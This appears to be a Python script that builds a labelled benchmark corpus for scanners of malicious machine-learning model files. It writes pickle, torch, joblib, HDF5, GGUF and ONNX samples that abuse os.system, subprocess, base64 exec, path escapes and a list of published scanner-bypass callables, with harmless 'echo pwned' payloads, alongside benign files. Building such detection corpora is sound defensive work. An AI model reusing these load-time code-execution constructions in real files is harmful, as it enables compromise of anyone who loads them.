"""The labelled detection corpus: malicious samples of every attack class the scanners handle and
benign files that real tools write. Built into a folder from opcodes and raw bytes; nothing is ever
loaded, and payloads are harmless (``echo pwned``).

Each sample is named with the extension files of its class normally carry, so extension-routed
peers get a fair chance; samples whose point is a misleading name say so (``renamed=True``).

    python bench/corpus.py OUT_DIR     # write the corpus and print its index
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import sys
import zlib
from collections import OrderedDict
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

import corpus_formats as fmt  # noqa: E402
import lz4.frame  # noqa: E402
import numpy as np  # noqa: E402
import py7zr  # noqa: E402
import zstandard  # noqa: E402

from tests.scan import containers_build as cb  # noqa: E402
from tests.scan import h5build as hb  # noqa: E402
from tests.scan import picklegen as g  # noqa: E402

REAL_CORPUS = ROOT.parent.parent / "shared" / "corpus_real"
if not REAL_CORPUS.is_dir():
    REAL_CORPUS = Path("/work/shared/corpus_real")


@dataclass(frozen=True)
class Sample:
    name: str
    """file name in the corpus folder (extension chosen as files of this class carry)"""
    data: bytes
    malicious: bool
    kind: str
    """attack class or benign family, e.g. ``pickle/stack-global-memo``"""
    renamed: bool = False
    """the name is deliberately misleading (e.g. a pickle named model.safetensors)"""


EVIL = cb.MALICIOUS_PICKLE


def _mal(name: str, data: bytes, kind: str, *, renamed: bool = False) -> Sample:
    return Sample(name, data, True, kind, renamed)


def _ok(name: str, data: bytes, kind: str) -> Sample:
    return Sample(name, data, False, kind)


# ---- malicious --------------------------------------------------------------------------------
def malicious_pickles() -> Iterator[Sample]:
    for p in (0, 1, 2, 3):
        yield _mal(f"reduce_p{p}.pkl", g.reduce_call("os", "system", protocol=p), f"pickle/global+reduce p{p}")
    yield _mal("stack_global_p4.pkl", g.stack_global_call("os", "system", protocol=4), "pickle/stack_global")
    yield _mal("stack_global_p5_framed.pkl", g.stack_global_call("subprocess", "check_output", protocol=5,
                                                                  framed=True), "pickle/stack_global framed")
    yield _mal("stack_global_memo.pkl", g.stack_global_call("os", "system", via_memo=True),
               "pickle/memo indirection")
    yield _mal("inst.pkl", g.inst_call("os", "system"), "pickle/inst")
    yield _mal("obj.pkl", g.obj_call("os", "system"), "pickle/obj")
    yield _mal("newobj.pkl", g.newobj_call("subprocess", "Popen"), "pickle/newobj")
    yield _mal("newobj_ex.pkl", g.newobj_ex_call("subprocess", "Popen"), "pickle/newobj_ex")
    yield _mal("ext.pkl", g.ext_call(1), "pickle/ext (copyreg code)")
    yield _mal("build_setstate.pkl", g.build_setstate_trick("os", "system"), "pickle/build __setstate__")
    yield _mal("dynamic_stack_global.pkl", g.dynamic_stack_global(), "pickle/stack_global of a load-time value")
    # getattr(__import__('os'), 'system')('echo pwned')
    imp = g.global_op("builtins", "__import__") + b"(" + g.text("os", 2) + b"tR"
    chain = g.global_op("builtins", "getattr") + b"(" + imp + g.text("system", 2) + b"tR"
    yield _mal("getattr_chain.pkl", g.pickle_of(chain + g.args_tuple((g.PAYLOAD,), 2) + b"R"), "pickle/getattr chain")
    yield _mal("dotted_attr_chain.pkl", g.stack_global_call("torch", "serialization.os.system"),
               "pickle/dotted attribute chain")
    yield _mal("partial.pkl", g.partial_call("os", "system"), "pickle/functools.partial")
    yield _mal("nested_loads.pkl", g.nested_loads(g.reduce_call("os", "system")), "pickle/nested pickle.loads")
    b64 = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImVjaG8gcHduZWQiKQ=="
    decode = g.global_op("base64", "b64decode") + b"(" + g.text(b64, 2) + b"tR"
    yield _mal("exec_b64.pkl", g.pickle_of(g.global_op("builtins", "exec") + b"(" + decode + b"tR"),
               "pickle/exec of base64")
    # callables that published scanner bypasses used (not on classic deny-lists)
    for module, name in [("pydoc", "pipepager"), ("_osx_support", "_read_output"), ("uuid", "_get_command_stdout"),
                         ("timeit", "timeit"), ("cProfile", "run"), ("pip", "main"), ("runpy", "run_path"),
                         ("torch.utils.cpp_extension", "load_inline"), ("numpy.testing._private.utils", "runstring"),
                         ("torch.fx.graph_module", "_forward_from_src"), ("code", "InteractiveInterpreter"),
                         ("operator", "methodcaller"), ("ctypes", "CDLL"), ("shutil", "rmtree"),
                         ("urllib.request", "urlopen"), ("webbrowser", "open"), ("asyncio", "create_subprocess_shell"),
                         ("torch.storage", "_load_from_bytes"), ("marshal", "loads"), ("idlelib.pyshell", "main")]:
        yield _mal(f"bypass_{module.replace('.', '_')}_{name}.pkl", g.reduce_call(module, name),
                   f"pickle/bypass {module}.{name}")
    yield _mal("unknown_module.pkl", g.reduce_call("evil_helpers.payload", "run"), "pickle/unlisted import")
    yield _mal("second_pickle.pkl", g.benign_ordered_dict() + EVIL, "pickle/second pickle in stream")
    yield _mal("evil_then_garbage.pkl", EVIL[:-1] + b"\xff\xfe garbage", "pickle/runs before invalid opcode")


def malicious_containers() -> Iterator[Sample]:
    yield _mal("torch_zip.pt", cb.torch_zip(EVIL), "torch-zip/data.pkl")
    odd = [cb.Entry(e.name.replace("archive/", "my-model_v2/"), e.data, descriptor=True)
           for e in cb.torch_zip_entries(EVIL)]
    yield _mal("torch_zip_odd_folder.pt", cb.build_zip(odd), "torch-zip/odd top folder")
    dup = cb.torch_zip_entries()
    dup.insert(1, cb.Entry("archive/data.pkl", EVIL, descriptor=True))
    yield _mal("torch_zip_duplicate_member.bin", cb.build_zip(dup), "torch-zip/two data.pkl members")
    mismatch = [cb.Entry(e.name, e.data, local_name=e.name.replace("data.pkl", "data.pkx")) if e.name.endswith(
        "data.pkl") else e for e in cb.torch_zip_entries(EVIL)]
    yield _mal("torch_zip_name_mismatch.pt", cb.build_zip(mismatch), "torch-zip/local-central name mismatch")
    bad_crc = [cb.Entry(e.name, e.data, crc=0x12345678) if e.name.endswith("data.pkl") else e
               for e in cb.torch_zip_entries(EVIL)]
    yield _mal("torch_zip_bad_crc.pt", cb.build_zip(bad_crc), "torch-zip/bad CRC")
    flags = [cb.Entry(e.name, e.data, flags=0x0001) if e.name.endswith("data.pkl") else e
             for e in cb.torch_zip_entries(EVIL)]
    yield _mal("torch_zip_encrypted_flag.pt", cb.build_zip(flags), "torch-zip/encryption flag set")
    yield _mal("polyglot_pickle_zip.pt", cb.torch_zip(prefix=EVIL), "polyglot/pickle prefix + torch zip")
    yield _mal("torch_legacy.pt", cb.legacy_torch(EVIL), "torch-legacy/object pickle")
    sys_info = cb.TORCH_LEGACY_MAGIC + cb.plain(1001) + EVIL + cb.state_dict({"w": ("0", 4)}, legacy=True)
    yield _mal("torch_legacy_sysinfo.pt", sys_info + cb.plain(["0"]) + b"\0" * 24, "torch-legacy/sys_info pickle")
    yield _mal("torch_legacy_tar.tar", fmt.tar_of({"sys_info": cb.SYS_INFO, "pickle": EVIL, "tensors": cb.plain(0)}),
               "torch-legacy-tar/pickle")
    yield _mal("object.npy", fmt.object_npy(EVIL), "numpy/object dtype")
    yield _mal("arrays.npz", fmt.zip_of({"a.npy": fmt.object_npy(EVIL)}), "numpy/npz with object array")
    raw = np.arange(64, dtype=np.uint8).tobytes()
    joblib_evil = g.joblib_array_pickle(raw, aligned=True)
    joblib_evil = joblib_evil[: -len(g.text("after") + b"e.")] + g.global_op("os", "system") \
        + g.args_tuple((g.PAYLOAD,)) + b"Re."
    yield _mal("model.joblib", joblib_evil, "joblib/payload after inline array")
    for ext, compress in [("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress),
                          ("lz4", lz4.frame.compress), ("z", zlib.compress)]:
        yield _mal(f"model.pkl.{ext}", compress(EVIL), f"compressed/{ext}")
    yield _mal("model_zlib.joblib", zlib.compress(EVIL), "compressed/zlib named .joblib")
    yield _mal("archive.zip", fmt.zip_of({"weights/model.pkl": EVIL}), "archive/zip")
    yield _mal("weights.zip", fmt.zip_of({"README": b"weights", "weights/model_state": EVIL}),
               "archive/zip, pickle member without extension")
    yield _mal("nested.tar.gz", gzip.compress(fmt.tar_of({"README.md": b"# m\n",
                                                          "inner.zip": fmt.zip_of({"m.pkl": EVIL})})),
               "archive/zip in tar in gzip")
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        z.writestr(EVIL, "model.pkl")
    yield _mal("archive.7z", buf.getvalue(), "archive/7z")
    yield _mal("model.safetensors", EVIL, "renamed/pickle named .safetensors", renamed=True)
    yield _mal("model.onnx", cb.torch_zip(EVIL), "renamed/torch zip named .onnx", renamed=True)
    yield _mal("config.json", EVIL, "renamed/pickle named config.json", renamed=True)


def malicious_round2() -> Iterator[Sample]:
    """Issue 17's classes: HDF5 beyond model_config, derived and nested pickle gadgets, fx graph code,
    TorchScript that writes on load, zstd, padding past the ratio guard."""
    evil0 = b"cos\nsystem\n(S'echo pwned'\ntR."  # protocol 0, as PyTables pickles attributes
    yield _mal("pandas_attribute.h5", hb.pickled_attribute(evil0), "hdf5/pickled PyTables attribute")
    yield _mal("pandas_object_rows.h5", hb.object_rows([b"\x80\x02N.", EVIL], chunks=(1,), compression="gzip"),
               "hdf5/pickled PyTables object row")

    def external(f: Any) -> None:
        f.create_dataset("model_weights/dense/kernel:0", shape=(4,), dtype="f4", external=[("/etc/hostname", 0, 16)])
    yield _mal("external_storage.h5", hb.h5(external), "hdf5/Keras weights from external storage")
    yield _mal("dataclasses_create_fn.pkl", g.reduce_call("dataclasses", "_create_fn", "f", ["x"], ["return 1"]),
               "pickle/code generator (derived)")
    yield _mal("forward_ref.pkl", g.reduce_call("typing", "get_type_hints", "x"), "pickle/forward-ref eval (derived)")
    yield _mal("copyreg_ext.pkl", g.add_extension_then_ext("os", "system"), "pickle/copyreg extension + EXT")
    inner = g.reduce_call("subprocess", "check_output", ["id"])
    nested = g.global_op("torch", "load") + b"(" + g.global_op("io", "BytesIO") + b"(" + g.binbytes(inner) + b"tRtR"
    yield _mal("nested_torch_load.pkl", g.pickle_of(nested, 3), "pickle/nested torch.load of bytes")
    yield _mal("fx_injected.pt", cb.torch_zip(g.fx_graph_module(
        "\n\ndef forward(self, x):\n    __import__('os').system('echo pwned')\n    return x\n", "import torch")),
        "pickle/fx graph module with injected code")
    ts = [cb.Entry("archive/data.pkl", b"\x80\x02}."), cb.Entry("archive/constants.pkl", b"\x80\x02)."),
          cb.Entry("archive/code/__torch__/m.py", b"class M(Module):\n"
                   b"  def __setstate__(self, state: Tuple[bool]) -> None:\n"
                   b"    _0 = ops.aten.save(torch.zeros([1]), '/tmp/pwned')\n    return None\n"),
          cb.Entry("archive/version", b"3\n")]
    yield _mal("torchscript_setstate_save.pt", cb.build_zip(ts), "torchscript/__setstate__ writes a file")
    yield _mal("model.pkl.zst", zstandard.compress(EVIL), "compressed/zstd")
    yield _mal("padded.pkl.gz", gzip.compress(EVIL + b"\0" * (160 << 20), 9), "compressed/gzip padded to 160 MiB")


def malicious_formats() -> Iterator[Sample]:
    yield _mal("modeling_evil.py", fmt.MALICIOUS_CODE, "code/exec of base64")
    yield _mal("lambda.keras", fmt.keras_zip(with_lambda=True), "keras/Lambda layer")
    yield _mal("escape.gguf", fmt.gguf(fmt.ESCAPE_TEMPLATE), "gguf/jinja sandbox escape")
    yield _mal("escape.onnx", fmt.onnx_model("../../../../etc/passwd"), "onnx/external data escape")


# ---- benign -----------------------------------------------------------------------------------
def benign() -> Iterator[Sample]:
    yield _ok("state_dict.pt", cb.torch_zip(), "torch-zip/state_dict")
    yield _ok("pytorch_model.bin", cb.torch_zip(g.torch_state_dict_pickle()), "torch-zip/state_dict + parameter")
    yield _ok("state_dict_legacy.pt", cb.legacy_torch(), "torch-legacy/state_dict")
    yield _ok("ordered_dict.pkl", g.benign_ordered_dict(), "pickle/OrderedDict")
    yield _ok("estimator.pkl", g.sklearn_estimator_pickle(), "pickle/sklearn-like estimator")
    config = {"lr": 0.001, "epochs": 3, "labels": ["cat", "dog"], "shape": (3, 224, 224), "blob": b"\x00\x01"}
    for p in range(6):
        yield _ok(f"plain_p{p}.pkl", pickle.dumps(config, protocol=p), f"pickle/plain data p{p}")
    yield _ok("ordered_dict_p4.pkl", pickle.dumps(OrderedDict(a=1, b=[1.5, "x"]), protocol=4), "pickle/OrderedDict p4")
    yield _ok("ndarray.pkl", pickle.dumps(np.arange(12, dtype=np.float32).reshape(3, 4), protocol=2),
              "pickle/numpy array")
    yield _ok("array.npy", _npy(np.arange(12, dtype=np.float32)), "numpy/float array")
    yield _ok("arrays.npz", _npz(compressed=False), "numpy/npz")
    yield _ok("arrays_compressed.npz", _npz(compressed=True), "numpy/npz compressed")
    yield from _joblib_dumps()
    yield _ok("model.safetensors", _safetensors(), "safetensors")
    yield _ok("modeling_tiny.py", fmt.BENIGN_CODE, "code/benign custom code")
    yield _ok("config.json", json.dumps({"architectures": ["BertModel"], "hidden_size": 64, "model_type": "bert"},
                                        indent=2).encode(), "config/config.json")
    yield _ok("tokenizer_config.json", json.dumps({"model_max_length": 512, "chat_template": fmt.BENIGN_TEMPLATE})
              .encode(), "config/tokenizer_config.json")
    yield _ok("dense.keras", fmt.keras_zip(with_lambda=False), "keras/Dense")
    yield _ok("chat.gguf", fmt.gguf(fmt.BENIGN_TEMPLATE), "gguf/ordinary chat template")
    yield _ok("inline.onnx", fmt.onnx_model(None), "onnx/inline weights")
    yield _ok("configs.tar.gz", gzip.compress(fmt.tar_of({"config.json": b'{"a": 1}', "model.pkl":
                                                         g.benign_ordered_dict()})), "archive/tar.gz of benign files")
    yield from _torch_written()
    yield _ok("frame.pkl.zst", zstandard.compress(pickle.dumps({"columns": ["a", "b"], "rows": 3}, protocol=5)),
              "compressed/zstd pickle")
    yield _ok("pandas_like.h5", hb.pickled_attribute(b"(lp0\nVname\np1\na."), "hdf5/PyTables attributes")
    for rel in ("torch/functional_activations.pt", "torch/fx_graph_module.pt", "torch/dcp/.metadata",
                "torch/dcp/__0_0.distcp", "pandas/frame_fixed.h5", "pandas/frame_table.h5", "pandas/frame.pkl.zst"):
        path = ROOT / "tests" / "data" / "real" / rel
        yield _ok(f"real_{rel.replace('/', '_').lstrip('.')}", path.read_bytes(), f"torch-pandas-real/{rel}")
    if REAL_CORPUS.is_dir():
        for path in sorted(REAL_CORPUS.rglob("*")):
            if path.is_file():
                yield _ok(f"real_{path.parent.name}_{path.name}", path.read_bytes(), f"real/{path.parent.name}")


def _npy(array: np.ndarray) -> bytes:  # type: ignore[type-arg]
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=False)
    return buf.getvalue()


def _npz(*, compressed: bool) -> bytes:
    buf = io.BytesIO()
    save = np.savez_compressed if compressed else np.savez
    save(buf, w=np.ones((4, 4), dtype=np.float32), b=np.zeros(4, dtype=np.int64))
    return buf.getvalue()


def _joblib_dumps() -> Iterator[Sample]:
    import joblib  # a test dependency; dump only, never load

    obj = {"coef": np.linspace(0, 1, 32), "intercept": np.float64(0.5), "classes": ["a", "b"]}
    for compress, suffix in [(0, "joblib"), (3, "joblib"), (("gzip", 3), "pkl.gz"), (("bz2", 3), "pkl.bz2"),
                             (("xz", 3), "pkl.xz"), (("lz4", 3), "pkl.lz4")]:
        buf = io.BytesIO()
        joblib.dump(obj, buf, compress=compress)
        tag = compress[0] if isinstance(compress, tuple) else f"c{compress}"
        yield _ok(f"joblib_{tag}.{suffix}", buf.getvalue(), f"joblib/dump {tag}")


def _safetensors() -> bytes:
    from safetensors.numpy import save

    return save({"w": np.ones((4, 4), dtype=np.float32), "b": np.zeros(4, dtype=np.float16)}, metadata={"format": "np"})


def _torch_written() -> Iterator[Sample]:
    """Files torch itself writes, when torch is importable (``pip install torch==2.13.0``)."""
    try:
        import torch
    except ImportError:
        return
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.LayerNorm(3))
    for name, obj, kw in [("torch_real_state_dict.pt", model.state_dict(), {}),
                          ("torch_real_legacy.pt", model.state_dict(), {"_use_new_zipfile_serialization": False}),
                          ("torch_real_full_module.pt", model, {}),
                          ("torch_real_checkpoint.pt", {"model": model.state_dict(), "epoch": 3,
                                                        "optimizer": torch.optim.Adam(model.parameters())
                                                        .state_dict()}, {})]:
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)
        yield _ok(name, buf.getvalue(), f"torch-real/{name.removeprefix('torch_real_').removesuffix('.pt')}")


def build() -> list[Sample]:
    return [*malicious_pickles(), *malicious_containers(), *malicious_round2(), *malicious_formats(), *benign()]


def write(out: Path) -> list[tuple[Path, Sample]]:
    """Write every sample under ``out``, each in its own folder (so a scanner of one file never
    sees another sample), and return (path, sample) pairs."""
    written = []
    for i, sample in enumerate(build()):
        path = out / f"{i:03d}" / Path(sample.name).name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(sample.data)
        written.append((path, sample))
    return written


if __name__ == "__main__":
    for path, sample in write(Path(sys.argv[1])):
        print(f"{'MAL' if sample.malicious else 'ok '}  {sample.kind:45s} {path}")
